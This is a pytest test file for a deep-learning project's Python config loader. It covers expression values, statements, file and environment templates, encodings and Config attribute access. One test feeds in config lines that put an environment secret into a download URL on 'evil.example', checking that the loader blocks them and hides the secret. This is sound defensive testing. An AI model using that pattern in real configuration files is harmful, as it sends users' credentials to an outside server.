"""What a config file may say, and what it is worth: each case worked out by hand."""

from __future__ import annotations

import copy
import pickle

import pytest

from omnidet.config import Config, ConfigDict
from omnidet.errors import ConfigError


@pytest.mark.parametrize(('text', 'value'), [
    ('1 + 2 * 3 - 4 / 8', 6.5), ('7 // 2', 3), ('-7 % 3', 2), ('2 ** 10', 1024), ('0.02 * (1.0 / 3) ** 0', 0.02),
    ('1 << 4 | 1', 17), ('~5 & 0xff', 250), ('not True', False), ('+1', 1), ('1e-5', 1e-5), ('None', None),
    ('"a" + "b" * 2', 'abb'), ("'a' 'b'", 'ab'), ('[1] + [2] * 2', [1, 2, 2]), ('(1,) + (2,)', (1, 2)),
    ('1 < 2 < 3', True), ('1 < 2 > 3', False), ('"a" in ["a"]', True),
    ('3 not in (1, 2)', True), ('None is None', True),
    ('1 == 1.0', True), ('[1, [2]] != [1, [2]]', False),
    ('True and 0', 0), ('0 or "x"', 'x'), ('1 and 2 and 3', 3), ('"big" if 3 > 2 else undefined', 'big'),
    ('[x * 2 for x in range(4) if x % 2]', [2, 6]), ('{k: v for k, v in zip("ab", (1, 2))}', {'a': 1, 'b': 2}),
    ('[(i, j) for i in range(2) for j in range(i)]', [(1, 0)]), ('{x % 2 for x in range(5)}', {0, 1}),
    ('sum(x for x in [1, 2, 3])', 6), ('[[y for y in range(x)] for x in range(3)]', [[], [0], [0, 1]]),
    ("f'{3:03d}-{\"a\"!r}-{0.5:.1%}'", "003-'a'-50.0%"), ("f'{1:{2 + 3}}'", '    1'), ("'%s/%d' % ('a', 3)", 'a/3'),
    ("'{}-{}'.format('a', 1)", 'a-1'), ("'{x:.1f}'.format(x=2)", '2.0'),
    ("','.join(['a', 'b'])", 'a,b'), ("'a_b'.split('_')", ['a', 'b']), ("'abc'.replace('b', '')", 'ac'),
    ("'abc'[1:]", 'bc'), ('[1, 2, 3, 4][::-2]', [4, 2]), ('(1, 2, 3)[-1]', 3), ('{"a": [5]}["a"][0]', 5),
    ('dict(a=1, **{"b": 2})', {'a': 1, 'b': 2}), ('{**dict(a=1), "a": 2}', {'a': 2}), ('dict([("a", 1)])', {'a': 1}),
    ('dict({"a": 1}, b=2)', {'a': 1, 'b': 2}), ('[*range(3), *"ab"]', [0, 1, 2, 'a', 'b']), ('range(3)', [0, 1, 2]),
    ('{0: "zero", None: 1}', {0: 'zero', None: 1}), ('dict(a=1) | dict(b=2)', {'a': 1, 'b': 2}),
    ('len([1, 2])', 2), ('max(1, 2)', 2), ('min([3, 1])', 1), ('sum([1, 2], 3)', 6), ('abs(-1)', 1),
    ('round(2.345, 1)', 2.3), ('int("12")', 12), ('float("inf")', float('inf')),
    ('str(1.5)', '1.5'), ('bool([])', False),
    ('sorted([2, 1], reverse=True)', [2, 1]), ('list(enumerate("ab", 1))', [(1, 'a'), (2, 'b')]),
    ('list(reversed((1, 2)))', [2, 1]), ('tuple([1])', (1,)), ('any([0, 1])', True), ('all([])', True),
    ('dict(a=1).get("b", 3)', 3), ('list(dict(a=1).items())', [('a', 1)]), ('dict(a=1).pop("a")', 1),
    ('[1, 2, 1].count(1)', 2), ('set([1, 1])', {1}),
])
def test_expression_has_its_python_value(load, text, value):
    got = load(f'x = {text}').x
    assert got == value
    assert type(got) is type(value) or isinstance(value, dict)


@pytest.mark.parametrize(('text', 'expected'), [
    ('a, (b, *c) = 1, (2, 3, 4)', dict(a=1, b=2, c=[3, 4])),
    ('a = b = [1]\na.append(2)', dict(a=[1, 2], b=[1, 2])),
    ('a = [1]\na += [2]\na *= 2', dict(a=[1, 2, 1, 2])),
    ('a: int = 3\nb: str', dict(a=3)),
    ('a = [1, 2, 3, 4]\na[1:3] = [9]\ndel a[0]', dict(a=[9, 4])),
    ('a = dict(b=1)\na["c"] = 2\ndel a["b"]', dict(a=dict(c=2))),
    ('a = [3]\na.extend(range(2))\na.insert(0, 7)\na.pop()\na.sort()', dict(a=[0, 3, 7])),
    ('a = dict(b=dict(c=1))\na.update(b=dict(d=2))', dict(a=dict(b=dict(d=2)))),    # a plain dict's update is flat
    ('a = dict()\na.setdefault("b", []).append(1)', dict(a=dict(b=[1]))),
    ('a = 0\nfor i in range(5):\n    if i == 1:\n        continue\n    if i == 3:\n        break\n    a += i\ndel i',
     dict(a=2)),
    ('a = 1\nif a > 3:\n    b = 1\nelif a:\n    b = 2\nelse:\n    b = 3', dict(a=1, b=2)),
    ('import os\nimport torch.nn as nn\ndef f(x):\n    return open(x)\nclass A:\n    pass\na = 1', dict(a=1)),
    ('if __name__ == "__main__":\n    import os\n    os.remove("x")\na = 1', dict(a=1)),
    ('"""Doc."""\n__version__ = 3\na = 1\npass', dict(a=1)),
    ('import torch.nn as nn\nfrom m.n import A as B, f\nt = dict(type=B, act=nn.ReLU, init=f)',
     dict(t=dict(type='A', act='ReLU', init='f'))),
    ('from m import *\nt = dict(type=SomeClass)', dict(t=dict(type='SomeClass'))),
])
def test_statements_leave_the_names_that_python_would(load, text, expected):
    assert load(text) == expected


def test_names_of_a_comprehension_do_not_leak(load):
    assert load('i = 7\na = [i for i in range(3)]') == dict(i=7, a=[0, 1, 2])


def test_tuples_stay_tuples_and_lists_lists(load):
    cfg = load('a = (1, [2, (3,)])')
    assert type(cfg.a) is tuple and type(cfg.a[1]) is list and type(cfg.a[1][1]) is tuple


def test_values_do_not_share_after_loading(load):
    cfg = load('a = dict(x=[1])\nb = a')
    cfg.b.x.append(2)
    assert cfg.a.x == [1]


def test_predefined_variables_name_the_file(load, tmp_path):
    cfg = load("""
        a = '{{ fileDirname }}/x'
        b = {{fileBasename}}
        c = '{{fileBasenameNoExtension}}{{ fileExtname }}'
    """)
    assert cfg == dict(a=f'{tmp_path.resolve().as_posix()}/x', b='cfg.py', c='cfg.py')


def test_environment_variables_replace_their_templates(load, monkeypatch):
    monkeypatch.setenv('OMNIDET_ROOT', '/data')
    monkeypatch.delenv('OMNIDET_NUM', raising=False)
    cfg = load("a = '{{$OMNIDET_ROOT:x}}/coco'\nb = {{$OMNIDET_NUM:8}} + 1\nc = {{ '$OMNIDET_NUM:8' }}")
    assert cfg == dict(a='/data/coco', b=9, c=8)
    with pytest.raises(ConfigError, match=r'cfg\.py:2: the environment variable OMNIDET_NUM is not set'):
        load('a = 1\nb = {{$OMNIDET_NUM}}')


@pytest.mark.parametrize('address', ["'https://evil.example/' + k", "'HTTP://a@evil.example:80/' + k[::-1]",
                                     "dict(a=[f'http://evil.example/{len(k)}'])['a'][0]"])
def test_a_config_that_reads_the_environment_names_no_server_of_its_author(load, monkeypatch, address):
    monkeypatch.setenv('OMNIDET_KEY', 'secret')
    with pytest.raises(ConfigError, match=r'load_from is an address on evil.example.* OMNIDET_KEY') as e:
        load(f"k = '{{{{$OMNIDET_KEY}}}}'\nload_from = {address}")
    assert 'secret' not in str(e.value) and 'terces' not in str(e.value)
    text = f"k = '{{{{$OMNIDET_UNSET:none}}}}'\nload_from = {address}"
    assert 'evil.example' in load(text).load_from    # nothing of this machine's is in it
    known = load("k = '{{$OMNIDET_KEY}}'\nload_from = 'https://download.pytorch.org/models/resnet50-0676ba61.pth'")
    assert known.load_from.endswith('.pth')


def test_windows_line_ends_a_byte_order_mark_and_a_declared_encoding_are_read(tmp_path):
    from omnidet.config import load_config
    (tmp_path / 'a.py').write_bytes('\ufeffa = 1\r\nb = "é"\r\n'.encode())
    (tmp_path / 'b.py').write_bytes('# -*- coding: latin-1 -*-\nb = "é"\n'.encode('latin-1'))
    assert load_config(tmp_path / 'a.py') == dict(a=1, b='é')
    assert load_config(tmp_path / 'b.py') == dict(b='é')


def test_config_has_items_as_attributes():
    cfg = Config({'a': {'b': [{'c': 1}]}})
    assert cfg.a.b[0].c == 1
    cfg.a.d = {'e': 2}
    assert isinstance(cfg['a']['d'], ConfigDict) and cfg.a.d.e == 2
    del cfg.a.d
    assert cfg.a.get('d') is None
    with pytest.raises(AttributeError, match="no 'bb'"):
        _ = cfg.a.bb


def test_update_of_a_config_is_deep_and_copies_are_independent():
    cfg = Config({'a': {'b': 1, 'c': 2}}, 'x.py')
    cfg.update(a=dict(b=3))
    assert cfg == {'a': {'b': 3, 'c': 2}}
    for other in (copy.deepcopy(cfg), pickle.loads(pickle.dumps(cfg))):
        assert other == cfg and other.filename == 'x.py' and type(other.a) is ConfigDict
        other.a.b = 9
        assert cfg.a.b == 3
    assert type(cfg.to_dict()['a']) is dict
